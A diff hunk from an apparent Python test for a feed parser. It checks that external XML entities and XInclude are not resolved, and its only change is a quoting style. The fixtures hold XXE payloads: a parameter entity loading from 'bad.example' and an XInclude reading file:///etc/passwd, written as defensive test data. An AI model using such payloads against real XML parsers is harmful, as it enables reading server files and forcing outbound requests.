@@ -47,7 +47,7 @@ def test_f2_outside_entities_are_left_alone_and_the_rest_is_read(scene: Scene) -
         '<!ENTITY % p SYSTEM "http://bad.example/p"> %p;]>'
     )
     outside = (
-        '<item><guid>x</guid><title>Still &file;&net;here</title><xi:include '
+        "<item><guid>x</guid><title>Still &file;&net;here</title><xi:include "
         'xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/></item>'
     )
     scene.answer(reply(200, rss(outside, prolog)))
